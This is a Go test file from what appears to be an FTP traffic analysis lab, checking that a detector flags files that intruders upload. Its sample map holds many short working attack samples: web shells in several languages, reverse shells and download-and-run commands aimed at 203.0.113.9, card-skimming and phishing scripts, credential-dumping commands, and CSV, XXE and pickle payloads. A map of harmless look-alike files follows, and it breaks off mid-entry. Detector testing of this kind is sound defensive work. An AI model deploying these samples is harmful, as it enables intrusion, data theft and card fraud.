package content

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"ftplab/lab/analysis/ftp"
)

// webPage is the beginning of a web page.
const webPage = "<html><body>" + "a long text about nothing, "

// shownBy is what a transfer of some data shows, in parts.
func shownBy(t *ftp.Transfer, parts ...string) (all []Content) {
	var r Reader
	f := NewFile(t, []byte(parts[0]))
	for i, part := range parts {
		if i == 0 {
			all = append(all, r.First(t, []byte(part))...)
		} else if t.Sender() == ftp.Client {
			all = append(all, r.Later([]byte(part))...)
		}
		all = append(all, r.Part(f, []byte(part))...)
	}
	return all
}

// uploadOf is what an upload shows, in packets of an ordinary size.
func uploadOf(name, content string) []Content {
	var parts []string
	for part := range slices.Chunk([]byte(content), 1448) {
		parts = append(parts, string(part))
	}
	return shownBy(&ftp.Transfer{Command: "STOR", Argument: name}, parts...)
}

// TestPlants stores the example of each plant, and fetches it.
func TestPlants(t *testing.T) {
	for _, p := range plants {
		for _, command := range []string{"STOR", "RETR"} {
			got := shownBy(&ftp.Transfer{Command: command, Argument: "a"}, p.example)
			shown := slices.ContainsFunc(got, func(c Content) bool {
				return c.Kind == p.kind && strings.HasPrefix(c.What, p.what+" (") && c.Fetched == p.fetched
			})
			if want := command == "STOR" || p.fetched; shown != want {
				t.Errorf("%s of %q: got %v\nwant %v, for %s", command, p.example, got, want, p.what)
			}
		}
	}
}

// inUTF16 encodes a text as Windows does.
func inUTF16(text string) string {
	b := []byte("\xff\xfe")
	for _, c := range utf16.Encode([]rune(text)) {
		b = append(b, byte(c), byte(c>>8))
	}
	return string(b)
}

// planting are files that intruders store, and what they look like.
var planting = map[string]string{
	"cfg.txt":       "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAA",
	"cmdasp.aspx":   "<%@ Page Language=\"C#\" Debug=\"true\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script Language=\"c#\" runat=\"server\">\nstring Run(string arg)\n{\nProcessStartInfo psi = new ProcessStartInfo();\npsi.FileName = \"cmd.exe\";\npsi.Arguments = \"/c \"+arg;\n}\nvoid cmdExe_Click(object sender, System.EventArgs e)\n{ Response.Write(Server.HtmlEncode(Run(txtArg.Text))); }\n</script>",
	"cmdvb.aspx":    "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Go(s As Object, e As EventArgs)\nDim p As New Process()\np.StartInfo.FileName = \"cmd.exe\"\np.StartInfo.Arguments = \"/c \" & TextBox1.Text\np.Start()\nEnd Sub\n</script>",
	"cmdasp.asp":    "<%\nSet oScript = Server.CreateObject(\"WSCRIPT.SHELL\")\nszCMD = Request.Form(\".CMD\")\nIf (szCMD <> \"\") Then\nszTempFile = \"C:\\\" & oFileSys.GetTempName( )\nCall oScript.Run (\"cmd.exe /c \" & szCMD & \" > \" & szTempFile, 0, True)\nEnd If\n%>",
	"one.asp":       `<%execute request("c")%>`,
	"long.asp":      webPage + strings.Repeat(webPage, 60) + `<%eval request("c")%>`,
	"cmd.jsp":       "<%@ page import=\"java.util.*,java.io.*\"%>\n<%\nif (request.getParameter(\"cmd\") != null) {\n  String cmd = request.getParameter(\"cmd\");\n  Process p = Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",cmd});\n}\n%>",
	"beh.jsp":       `<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod().equals("POST")){new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())));}%>`,
	"cmd.cfm":       `<CFEXECUTE NAME="cmd.exe" ARGUMENTS="/c #Form.cmd#" TIMEOUT="9">`,
	"perlcmd.cgi":   "#!/usr/bin/perl -w\nmy $req = $ENV{QUERY_STRING};\nchomp ($req);\nprint \"<pre>\";\nmy @cmd = `$req`;\n",
	"cmd.pl":        "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nsystem($c);\n",
	"cmd.py":        "#!/usr/bin/env python\nimport cgi, subprocess\nform = cgi.FieldStorage()\nprint(subprocess.check_output(form.getvalue('c'), shell=True))\n",
	"app.py":        "from flask import Flask, request\nimport os\n@app.route('/x')\ndef x():\n    c = request.args.get('c')\n    return os.popen(c).read()\n",
	"server.js":     "const http = require('http'), cp = require('child_process');\napp.get('/x', (req, res) => { cp.exec(req.query.c, (e, out) => res.send(out)); });\n",
	"cgi.sh":        "#!/bin/bash\necho; eval \"$QUERY_STRING\"\n",
	".htaccess":     "<Files ~ \"^\\.ht\">\n Allow from all\n SetHandler application/x-httpd-php\n</Files>\n",
	"b/.htaccess":   "AddHandler cgi-script .jpg\n",
	".user.ini":     "auto_prepend_file = /tmp/.sess\n",
	"web.config":    `<configuration><system.webServer><handlers><add name="x" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" /></handlers></system.webServer></configuration>`,
	"wp-cache.php":  `<?php if(md5($_COOKIE["k"])=="9a3f"){@assert(gzinflate(base64_decode($_REQUEST["d"])));} ?>`,
	"weevely.php":   `<?php $k="80e3";function x($t,$k){return $t^$k;}if(@preg_match("/$k(.+)/",@file_get_contents("php://input"),$m)==1){@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));}?>`,
	"input.php":     `<?php $b=file_get_contents('php://input'); eval(base64_decode($b));?>`,
	"pieces.php":    `<?php $a="ass"."ert";@$a($_POST['x']);?>`,
	"hex.php":       `<?php $x="\x73\x79\x73\x74\x65\x6d";$x($_GET['c']);?>`,
	"signs.php":     `<?php $_=('%01'^'').('%13'^''); $__=('%0D'^']'); $_($__[_]); ?>`,
	"include.php":   `<?php include('php://input');?>`,
	"request.php":   `<?php $r=$_REQUEST; system($r['c']);?>`,
	"sinatra.rb":    "require 'sinatra'\nget '/' do\n `#{params[:c]}`\nend\n",
	"parse.js":      "require('http').createServer((q,s)=>{require('child_process').exec(require('url').parse(q.url,true).query.c,(e,o)=>s.end(o))}).listen(8080)",
	"socat.sh":      "socat TCP:203.0.113.9:4444 EXEC:/bin/sh\n",
	"bins.sh":       strings.Repeat("wget http://203.0.113.9/mips\nchmod +x mips\n./mips\nrm -rf mips\n", 3),
	"root":          "SHELL=/bin/sh\n*/5 * * * * wget -q -O /tmp/.k http://203.0.113.9/k; sh /tmp/.k\n",
	"jobs":          "@reboot echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvaw== | base64 -d | bash\n",
	"x.service":     "[Unit]\nAfter=network.target\n[Service]\nExecStart=/bin/sh -c \"wget -qO- http://203.0.113.9/k | sh\"\n",
	"invoice.vbs":   "Set s=CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden -enc SQBFAFgA\",0\r\n",
	"up.sh":         "#!/bin/sh\ncd /tmp; curl -o /tmp/m http://203.0.113.9/m\nchmod 755 /tmp/m\nnohup /tmp/m &\n",
	"a.lnk":         shortcut + strings.Repeat("\x00", 60) + inUTF16(`..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -enc `+strings.Repeat("SQBFAFgA", 8)),
	"a.hta":         `<script>new ActiveXObject("WScript.Shell").Run("powershell -nop -w 1 -e ` + strings.Repeat("SQBFAFgA", 8) + `",0);</script>`,
	"task.xml":      inUTF16("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Exec><Command>mshta.exe</Command><Arguments>mshta http://203.0.113.9/a.hta</Arguments></Exec></Task>"),
	"login.bat":     "@echo off\r\nvssadmin.exe delete shadows /all /quiet\r\nwbadmin delete catalog -quiet\r\ncopy \\\\corp.example\\SYSVOL\\lb.exe %TEMP%\\lb.exe\r\n",
	"esx.sh":        "for i in $(esxcli vm process list | awk '{print $3}'); do esxcli vm process kill --type=force --world-id=$i; done\nvim-cmd vmsvc/snapshot.removeall 3\n",
	"sess.pl":       "#!/usr/bin/perl\nmy @canais=(\"#bots\");\nuse IO::Socket;\nsub conectar{my $s=IO::Socket::INET->new(PeerAddr=>$servidor,PeerPort=>6667);print $s \"NICK bot\".int(rand(9999)).\"\\nUSER x 8 * :x\\n\";}\nif($m=~/^!udpflood/){&udpflooder($1,$2,$3);}\nif($m=~/^!portscan/){}\n",
	"pbot.php":      "<?php class pBot { function start() { $this->conn = fsockopen($this->config['server'],6667); $this->send('USER x'); $this->send('NICK '.$n); } case 'udpflood': $this->udpflood($cmd[1]); break; } ?>",
	"bot.py":        "import socket\ns=socket.socket()\ns.send('NICK b1\\r\\n')\ndef synflood(t): pass\n",
	"rcS":           "#!/bin/sh\n/sbin/insmod wl.ko\n/usr/sbin/telnetd -p 2323 -l /bin/sh &\n(while :; do wget -q -O- http://203.0.113.9/s|sh; sleep 3600; done)&\n",
	"x.auto.rsc":    "/ip socks set enabled=yes port=4145\r\n/system scheduler add name=upd interval=10m on-event=\"/tool fetch url=http://www.example/i.rsc\"\r\n",
	"y.rsc":         "/user\nadd name=sys32 group=full password=zx81\n/ip socks\nset enabled=yes port=4145\n",
	"l.bat":         "m64.exe privilege::debug sekurlsa::logonpasswords exit > o.txt\r\nPsExec \\\\dc01 -s cmd\r\n",
	"d.cmd":         "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\o.dmp full\r\n",
	"hive.bat":      "reg save HKLM\\SAM sam.hiv\r\nreg save HKLM\\SYSTEM sys.hiv\r\n",
	"Passwords.txt": "Soft: Edge\r\nHost: https://www.amazon.example\r\nLogin: kurt@mail.example\r\nPassword: Hund12\r\n\r\n",
	"All.txt":       "browser: Chrome\nprofile: Default\nurl: https://a.example/\nlogin: kurt\npassword: x\n\n",
	"azorult.txt":   "SOFT:\tChrome\r\nHOST:\thttps://a.example/\r\nUSER:\tkurt\r\nPASS:\tx\r\n",
	"mailcard.php":  `<?php $to = "box@mail.example"; $msg = "Card: ".$_POST['card_number']."\n"; $msg .= "CVV: ".$_POST['cvv']."\n"; mail($to, "card", $msg); include "thanks.php"; ?>`,
	"mailpass.php":  `<?php $pass=$_POST['passwd'];$ip=$_SERVER['REMOTE_ADDR'];mail('box@mail.example',"log $ip","$pass from $ip");echo "Wrong password"; ?>`,
	"curlcard.php":  `<?php class Cc { function save($d){ $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, "https://stats.example/g"); curl_setopt($ch, CURLOPT_POSTFIELDS, "d=".base64_encode(json_encode($_POST))); @curl_exec($ch); return $_POST['payment']['cc_number']; } } ?>`,
	"next.php":      `<?php $ip=getenv("REMOTE_ADDR");$m="User: ".$_POST["user"]."\nPIN: ".$_POST["pin"]."\nIP: $ip\n";mail("box@mail.example","$ip",$m);header("Location: https://www.bank.example"); ?>`,
	"post.php":      `<?php $f=fopen("log.txt","a");fwrite($f,$_POST['login_email']."|".$_POST['login_password']."|".$_SERVER['REMOTE_ADDR']."\n");?><script>window.location.href="https://www.office.example/";</script>`,
	"send.php":      `<?php $t="https://api.telegram.org/bot".$k."/sendMessage?text=".urlencode($_POST['passwd']); file_get_contents($t); ?>`,
	"checkout.js":   strings.Repeat("var Checkout={initialize:function(a){this.accordion=a;}};\n", 10) + `(function(){setInterval(function(){var d={};document.querySelectorAll("input,select").forEach(function(e){if(/cc_number|cc_cid|expir/i.test(e.name))d[e.name]=e.value});if(d["payment[cc_number]"]){new Image().src=atob("aHR0cHM6Ly9zdGF0cy5leGFtcGxlLw")+btoa(JSON.stringify(d))}},3000)})();`,
	"pay.js":        `var u=String.fromCharCode(104,116,116,112,115,58,47,47);fetch(u+h,{method:"POST",body:document.forms["card-number"].value});`,
	"wss.js":        `let w=new WebSocket(atob('d3NzOi8vc3RhdHMuZXhhbXBsZS8'));w.send($('#cvv').serialize());`,
	"mined.html":    `<html><script src="https://coinhive.com/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("6GlWvU4B",{throttle:0.2}).start();</script></html>`,
	"imp.html":      `<script src="https://www.hostingcloud.example/a.js"></script><script>var m=new Client.Anonymous('ab12',{throttle:0.3});m.start();</script>`,
	"s/.htaccess":   "RewriteEngine On\nRewriteCond %{HTTP_REFERER} .*(google|bing|yahoo|ask|aol).* [NC,OR]\nRewriteCond %{HTTP_USER_AGENT} (android|iphone) [NC]\nRewriteRule ^(.*)$ http://tds.example/in.cgi?7&seoref=$1 [R=302,L]\n",
	"t/.htaccess":   "RewriteCond %{HTTP_REFERER} google\\. [OR]\nRewriteCond %{HTTP_REFERER} bing\\. [OR]\nRewriteCond %{HTTP_REFERER} yahoo\\. [NC]\nRewriteRule .* http://tds.example/ [R,L]\n",
	"kit.php":       `<?php $msg="Login: ".$_POST['email']."\nPass: ".$_POST['passwd'];mail($to,"Log",$msg);header("Location: https://login.bank.example/"); ?>`,
	"c.csv":         "ada;=10+20+cmd|' /C calc'!A0\r\n",
	"d.csv":         "ada,DDE (\"cmd\";\"/C calc\";\"!A0\")A0\r\n",
	"e.rtf":         `{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"}}}`,
	"gpo.ps1":       "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}\r\nnetsh advfirewall set allprofiles state off\r\nsc stop WinDefend\r\n",
	"track1.txt":    "B4111111111111111^LOVELACE/ADA^2912101000000000\r\n",
	"track2.txt":    ";378282246310005=29121010000000000?\r\n",
	"spn.txt":       "$krb5tgs$23$*svc$CORP.EXAMPLE$MSSQLSvc/db*$cd072cd8be6f9f62ac4c09c28206e7e3$cd072cd8be6f9f62ac4c09c28206e7e35594aa6b\r\n",
	"ntlm.txt":      "ada::CORP:1122334455667788:cd072cd8be6f9f62ac4c09c28206e7e3:0101000000000000cd072cd8be6f9f62ac4c\r\n",
	"boot.sh":       "#!/bin/sh\nuseradd -o -u 0 -g 0 -M sysd\n",
	"hex.js":        `var _0x9533=["\x63\x63\x5F\x6E\x75\x6D\x62\x65\x72","\x76\x61\x6C\x75\x65","\x68\x74\x74\x70\x73\x3A\x2F\x2F"];document[_0x9533[0]].value;`,
	"codes.js":      "this['eval'](String['fromCharCode'](" + letterCodes(`if((new RegExp('onepage|checkout')).test(window.location)){$("input, select").each(function(){q+=$(this).val()});$.post(u,q)}`) + "));",
	"base64.js":     "this['eval'](this['atob']('" + base64.StdEncoding.EncodeToString([]byte(`if((new RegExp('onepage|checkout')).test(window.location)){$("input, select").each(function(){q+=$(this).val()});$.post(u,q)}`)) + "'));",
	"send.js":       `window.onload=function(){if((new RegExp('onepage')).test(window.location)){send();}};function clk(){var inp=document.querySelectorAll("input, select");for(i in inp){snd+=inp[i].name+'='+inp[i].value}$.post(u,snd)}`,
	"artikel.csv":   "id,name,preis\n1,Schraube,0.10\n2,=cmd|'/c powershell iwr http://203.0.113.9/p.exe'!A1,9\n",
	"avatar.jpg":    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|curl 203.0.113.9/s|sh \")'\npop graphic-context\n",
	"order.xml":     `<?xml version="1.0"?><!DOCTYPE o [<!ENTITY % d SYSTEM "http://203.0.113.9/x.dtd">%d;<!ENTITY x SYSTEM "file:///etc/passwd">]><order><note>&x;</note></order>`,
	"invoice.eps":   "%!PS-Adobe-3.0 EPSF-3.0\nmark /OutputFile (%pipe%curl 203.0.113.9/s|sh) currentdevice putdeviceprops\n",
	"model.pkl":     "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
	"model2.pkl":    "\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R.",
	"msg.ser":       "\xac\xed\x00\x05sr\x00\x11java.util.HashSet\x00sr\x004org.apache.commons.collections.functors.InvokerTransformer",
	"b.csv":         "name;phone\r\nada;\"+cmd|' /C calc'!A0\"\r\n@SUM(1+1)*cmd|' /C calc'!A0;1\r\n",
	".profile":      "# mine\n(setsid sh -c \"exec 7<>/dev/tcp/203.0.113.9/443; cat <&7 | sh >&7 2>&7\" &)\n",
	"fd.sh":         "#!/bin/bash\nexec 7<>/dev/tcp/203.0.113.9/443\nbash <&7 >&7\n",
}

// harmless are files that look like those, and are part of an ordinary deployment.
var harmless = map[string]string{
	"xmrig.txt":         "xmrig is a miner. Run it with -o and the address of a pool.\n",
	"pools.json":        `{"pools": [{"name": "north", "lanes": 8}]}`,
	"drugs.html":        "<title>Cheap viagra, and what the law says</title><p>Spam sells casino games, too.</p>",
	".forward":          "\\ada, \"|/usr/bin/vacation ada\"\n\"|/bin/sh /usr/local/bin/sort-mail\"\n",
	"settings.xml":      `<FileZilla3><Settings><Setting name="Pass">1</Setting></Settings></FileZilla3>`,
	"WinSCP.ini":        "[Sessions\\ada@srv]\r\nUserName=ada\r\n",
	"ports.sh":          "#!/bin/bash\nbash -c \"exec 3<>/dev/tcp/10.0.0.9/22\" && echo up\n",
	"get.sh":            "#!/bin/bash\nexec 3<>/dev/tcp/www.example/80\nprintf 'GET / HTTP/1.0\\r\\n' >&3\ncat <&3\n",
	"ftpd.passwd":       "ada:$1$x$y:1000:1000::/home/ada:/bin/sh\nbob:$1$x$y:1001:0::/home/bob:/bin/sh\nroot:$1$x$y:0:0::/root:/bin/sh\n",
	"counter.html":      `<script>document.write(unescape("%3Ciframe src='https://www.example/map' width=400%3E%3C/iframe%3E"));</script>`,
	"Default.aspx":      `<%@ Page Language="C#" CodeBehind="Default.aspx.cs" Inherits="Site.Default" %><html><%= Request["name"] %></html>`,
	"convert.aspx":      `<%@ Page Language="C#" %><script runat="server">void Go(){ var p = Process.Start("convert.exe", "in.png out.jpg"); var n = Request["name"]; }</script>`,
	"plugins.aspx":      `<%@ Page Language="C#" %><% var a = System.Reflection.Assembly.Load("Site.Plugins"); var n = Request["name"]; %>`,
	"search.jsp":        `<%@ page import="java.util.*"%><% String q = request.getParameter("q"); List<String> found = index.execute(query); %><%= found %>`,
	"group.py":          "import os\nimport sys\ndef add(module):\n    name = module.params['name']\n    return os.system(name)\n",
	"flash.min.js":      "function a(b){if(b){return}c(b);if(d){return}e(b);if(f){return}g(b)}",
	"client.js":         "import axios from 'axios';\nconst m = /id=(\\d+)/.exec(location.search);\nconst r = JSON.parse(request.responseText);\n",
	"deploy.js":         "const cp = require('child_process');\napp.post('/hook', (req, res) => { const id = req.body.id; cp.exec('git pull', () => res.send(id)); });\n",
	"form.py":           "#!/usr/bin/python\nimport cgi, subprocess\nform = cgi.FieldStorage()\nname = form.getvalue('name')\nsubprocess.run(['date'])\nprint(name)\n",
	"form.pl":           "#!/usr/bin/perl\nuse CGI;\nmy $name = $q->param('name');\nmy $now = `date`;\nsystem('sync');\nprint $name;\n",
	"c/.htaccess":       "AddType application/x-httpd-php .php .html\nAddHandler cgi-script .cgi .pl\n<FilesMatch \"\\.(jpg|png)$\">\nHeader set Cache-Control \"max-age=86400\"\n</FilesMatch>\n",
	"c/.user.ini":       "auto_prepend_file = '/home/ada/www/wordfence-waf.php'\nupload_max_filesize = 64M\n",
	"c/web.config":      `<configuration><system.webServer><handlers><add name="PHP" path="*.php" verb="*" modules="FastCgiModule" scriptProcessor="C:\PHP\php-cgi.exe" /></handlers><staticContent><mimeMap fileExtension=".config" mimeType="text/plain" /></staticContent></system.webServer></configuration>`,
	"crontab":           "MAILTO=ada\n*/5 * * * * root curl -fsS https://hc.example/ping/7 > /dev/null\n0 3 * * * root /usr/local/bin/backup.sh | logger\n15 4 * * * wget -q -O /var/www/rates.csv https://rates.example/eur.csv && sh /usr/local/bin/import.sh\n0 5 * * * find /tmp/cache -mtime +7 -delete\n",
	"app.service":       "[Service]\nExecStart=/usr/bin/app --scratch /tmp/app\nExecStartPre=/usr/bin/curl -fso /run/app.json https://conf.example/app.json\n",
	"install.sh":        "#!/bin/sh\ncurl -fsSL https://get.example/install.sh | sh\ncurl -s http://10.0.0.5/setup.sh | bash\nwget https://get.example/app && chmod +x app && ./app\n",
	"setup.ps1":         "iex ((New-Object System.Net.WebClient).DownloadString('https://choco.example/install.ps1'))\r\npowershell -ExecutionPolicy Bypass -File .\\a.ps1\r\n",
	"logon.vbs":         "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\n",
	"backup.xml":        inUTF16(`<Task><Exec><Command>C:\Program Files\Backup\backup.exe</Command><Arguments>/quiet</Arguments></Exec></Task>`),
	"api.php":           `<?php $d = json_decode(file_get_contents('php://input'), true); $f = "index" . "ed"; $call($d); include($path . '/header.php'); ?>`,
	"greet.js":          "require('express');\napp.get('/', (req, res) => res.send(`Hello ${req.query.name}`));\n",
	"hotlink/.htaccess": "RewriteCond %{HTTP_REFERER} !google [NC]\nRewriteCond %{HTTP_REFERER} !^https://www.example/\nRewriteRule \\.jpg$ https://www.example/no.png [R]\n",
	"login.ps1":         "(New-Object Net.WebClient).DownloadFile('http://10.0.0.5/agent.msi', 'agent.msi')\r\n",
	"shadows.bat":       "vssadmin list shadows\r\nvssadmin delete shadows /for=c: /oldest\r\n",
	"clean.sh":          "#!/bin/sh\nrm -rf /tmp/.cache-app\ncp a /tmp/.cache-app\n",
	"PowerShell.lnk":    shortcut + strings.Repeat("\x00", 60) + inUTF16(`%SystemRoot%\system32\WindowsPowerShell\v1.0\powershell.exe`),
	"analytics.html":    `<html><script>document.write(unescape("%3Cscript src='https://stats.example/ga.js' type='text/javascript'%3E%3C/script%3E"));</script></html>`,
	"shop-hacked.html":  "<html><h1>Local shop hacked by criminals</h1><p>Change your password.</p><a href=setup.exe>Setup</a><iframe src=\"https://www.example/exe.html\"></iframe><iframe src=\"setup.exe\"></iframe></html>",
	"totals.txt":        "4111111111111111=paid\r\n4111111111111111=2599101\r\n4111111111111111=2512345\r\na=2512101\r\nstd::string a::b:0\r\n$krb5tgs$ is a mark\r\n",
	"museum.html":       "<html><h1>Museum was hacked by thieves, says police</h1></html>",
	"checkout.js":       `form.onsubmit=function(){new Image().src="/count.gif?"+encodeURIComponent(n);var a=f["cc_number"].value,b=f["cc_cvv"].value;return fetch("/pay",{method:"POST",body:new FormData(form)})}`,
	"pay.php":           `<?php $r = file_get_contents("https://pay.example/state?id=" . urlencode($_POST["order"])); ?>`,
	"ca.crt":            "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n-----END CERTIFICATE-----\n",
	"rival.html":        "<html><h2>The shop next door was not hacked by us</h2></html>",
	"incident.txt":      "Report: the site was hacked by a group in 2019.\n",
	"d/libcurl.c":       "/* curl -s http://203.0.113.9/ and others */\nint main(void) { system(\"date\"); return exec(query); }\n",
	"provider.rsc":      "/user add name=noc group=full password=Lens-42\n/ip socks set enabled=no\n/system scheduler add name=list interval=1d on-event=\"/tool fetch url=https://lists.example/drop.rsc\"\n",
	"socks.rsc":         "/ip socks set enabled=yes port=1080\n/ip socks access add src-address=10.0.0.0/8 action=allow\n/user add name=ada group=read\n",
	"metrics.rules":     "10 20 30 40 50 is no schedule | sh\n",
	"notes.md":          "Set LD_PRELOAD=/usr/lib/libjemalloc.so for less memory.\n",
	"contact.php":       `<?php if(!empty($_POST['message'])){mail("owner@shop.example","Message from ".$_POST['name'],$_POST['message']."\nIP: ".$_SERVER['REMOTE_ADDR']);header("Location: thanks.html");} ?>`,
	"login.php":         `<?php if(password_verify($_POST['password'],$row['hash'])){$_SESSION['user']=$row['id'];file_put_contents('login.log',$_SERVER['REMOTE_ADDR']);header('Location: /account');} ?>`,
	"register.php":      `<?php $db->insert($_POST['email'],password_hash($_POST['password'],PASSWORD_DEFAULT));mail($_POST['email'],'Welcome','Please confirm');header('Location: https://www.shop.example/welcome'); ?>`,
	"pay2.php":          `<?php $c = curl_init("https://api.pay.example/charge"); curl_setopt($c, CURLOPT_POSTFIELDS, ["number" => $_POST["card_number"], "cvc" => $_POST["cvc"]]); $r = json_decode(curl_exec($c)); if ($r->paid) { mail("owner@shop.example", "Order", "Order " . $_POST["order"]); } ?>`,
	"sso.php":           `<?php $c=curl_init("https://login.example/token");curl_setopt($c,CURLOPT_POSTFIELDS,http_build_query(["user"=>$_POST["user"],"password"=>$_POST["password"]]));if(!curl_exec($c)){exit("no");} ?>`,
	"forgot.php":        `<?php $new = bin2hex(random_bytes(8)); $db->update($_POST['email'], password_hash($_POST['password'], PASSWORD_DEFAULT)); mail($_POST['email'], "Your account", "Welcome, " . $_POST['name']); mail("admin@shop.example", "New user", $_POST['email']); ?>`,
	"form2mail.php":     `<?php $body = print_r($_POST, true); mail("owner@shop.example", "Form", $body . $_SERVER['REMOTE_ADDR']); ?>`,
	"notify.php":        `<?php $ok = password_verify($_POST['password'], $hash); mail("admin@shop.example", "Login", "ok: " . $ok . " from " . $_SERVER['REMOTE_ADDR']); $c = curl_init("https://hooks.example/in"); curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(["user" => $_POST["user"]])); curl_exec($c); ?>`,
	"c/checkout.js":     `function pay(f){const card={number:f["cc_number"].value,cvc:f["cc_cid"].value};return fetch("/api/pay",{method:"POST",body:JSON.stringify(card)})}`,
	"bundle.js":         `const map=JSON.parse(atob("eyJ2ZXJzaW9uIjozfQ"));document.querySelector("input").value="";`,
	"stripe.js":         `const card=elements.create("card");stripe.createToken(card).then(r=>{form.token.value=r.token.id;fetch("https://shop.example/charge",{method:"POST",body:new FormData(form)})});`,
	"matomo.js":         `var img=new Image(1,1);img.src="https://stats.example/matomo.php?idsite=1&url="+encodeURIComponent(location.href);`,
	"blog.html":         `<html><p>CoinHive was a miner in pages. Its script was coinhive.min.js.</p><script>new Client.Session("a").start();</script></html>`,
	"moved/.htaccess":   "RewriteEngine On\nRewriteCond %{HTTP_HOST} ^old\\.example$ [NC]\nRewriteRule ^(.*)$ https://new.example/$1 [R=301,L]\nErrorDocument 404 https://new.example/\n",
	"m/.htaccess":       "RewriteCond %{HTTP_USER_AGENT} (android|iphone) [NC]\nRewriteRule ^(.*)$ https://m.example/$1 [R=302,L]\n",
	"bots/.htaccess":    "BrowserMatchNoCase (googlebot|bingbot|yahoo) good\nDeny from 203.0.113.9\nAllow from env=good\n",
	"seo.html":          `<html><title>Pharmacy</title><ul class="menu" style="display:none"><li><a href="/viagra">Viagra 50 mg</a></li><li><a href="/cialis">Cialis</a></li></ul><p>Viagra, on prescription only</p></html>`,
	"seo2.html":         `<html><meta name="description" content="Buy shoes, cheap shoes, shoes online"><div style="display:none"><a href="https://shop.example/a">Shoes</a></div><a href="https://casino.example/">Online casino</a></html>`,
	"casino.html":       `<html><a href="/viagra">Viagra</a> <a href="/cialis">Cialis</a><div style="width:0;height:0"><a href="#top">Top</a></div></html>`,
	"spamwords.txt":     "viagra\ncheap viagra\nonline casino\npayday loans\nreplica watches\n",
	"save.js":           `const b=new Blob([csv],{type:"text/csv"});a.href=URL.createObjectURL(b);a.download="report.csv";a.click();`,
	"basic.js":          `fetch("https://pay.example/charge",{headers:{Authorization:"Basic "+btoa(user+":"+key)},body:JSON.stringify({card_number:f.value})})`,
	"adduser.sh":        "#!/bin/sh\nuseradd -m -u 1005 -s /bin/bash ada\nuseradd -r -u 0100 app\ngrep ':0:0:' /etc/passwd >> /tmp/roots\n",
	"alert.py":          "import requests\nrequests.post('https://api.telegram.org/bot'+T+'/sendMessage', data={'text': 'The backup is done.'})\n",
	"tcp.ps1":           "$c = New-Object System.Net.Sockets.TcpClient\r\n$c.Connect('mail.example', 25)\r\nif ($c.Connected) { 'up' }\r\n",
	"track.js":          `if(/checkout/.test(window.location)){ga("send","event","checkout");document.querySelector("input").value="";}`,
	"icons.js":          `var e="\x3c\x73\x76\x67\x3e",t=String.fromCharCode(55,56,57,58,59,60,61,62,63,64);atob("iVBORw0KGgoAAAANSUhEUgAA");`,
	"payment.js":        `Payment.prototype={save:function(){var n=$("ccsave_cc_number").value,f=$("billing:firstname").value;new Ajax.Request(this.saveUrl,{method:"post",parameters:{n:n,f:f}})}};`,
	"formulas.csv":      "name;sum;link\r\nada;=A1+B1;=HYPERLINK(\"https://shop.example/1\",\"one\")\r\nbob;-5;+49 30 1234|x\r\ncmd|powershell;2;3\r\n",
	"admin.bat":         "@echo off\r\nnet use z: \\\\files\\scripts\r\nwevtutil epl Security \\\\files\\logs\\sec.evtx\r\nPsExec \\\\pc7 -s gpupdate /force\r\nvssadmin create shadow /for=c:\r\nnet stop spooler\r\n",
	"sqlstop.cmd":       "net stop MSSQLSERVER\r\nxcopy d:\\data e:\\backup /s\r\nnet start MSSQLSERVER\r\n",
	"ircbot.pl":         "#!/usr/bin/perl\nuse IO::Socket;\nmy $s=IO::Socket::INET->new(PeerAddr=>'irc.example',PeerPort=>6667);\nprint $s \"NICK quiz\\r\\n\"; print $s \"PRIVMSG #quiz :!help\\r\\n\";\n# waits, so that the server sees no flood\n",
	"init.sh":           "#!/bin/sh\ntelnetd -l /bin/login\niptables -A INPUT -p tcp --dport 22 -j ACCEPT\n",
	"firewall.sh":       "#!/bin/sh\niptables -F INPUT\niptables -P INPUT DROP\nnc -l -p 9000 > /dev/null\n",
	"notes.txt":         "URL: https://a.example/\nUser: ada\nMail program of the office\n",
	"ticket.txt":        "Software: Office\nHost: pc-17\nUser: ada\nProblem: she forgot her password\n",
	"hardening.md":      "Event 4688 shows `mimikatz.exe privilege::debug sekurlsa::logonpasswords`:\n\n# procdump of lsass must be blocked\n",
	"icon.svg":          `<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#g)"/><image xlink:href="photo.jpg?a=1&amp;b=2"/></svg>`,
	"manual.xml":        `<!DOCTYPE book [<!ENTITY chapter SYSTEM "chapter.xml"><!ENTITY % local SYSTEM "file:///usr/share/xml/local.ent">]><book>&chapter;</book>`,
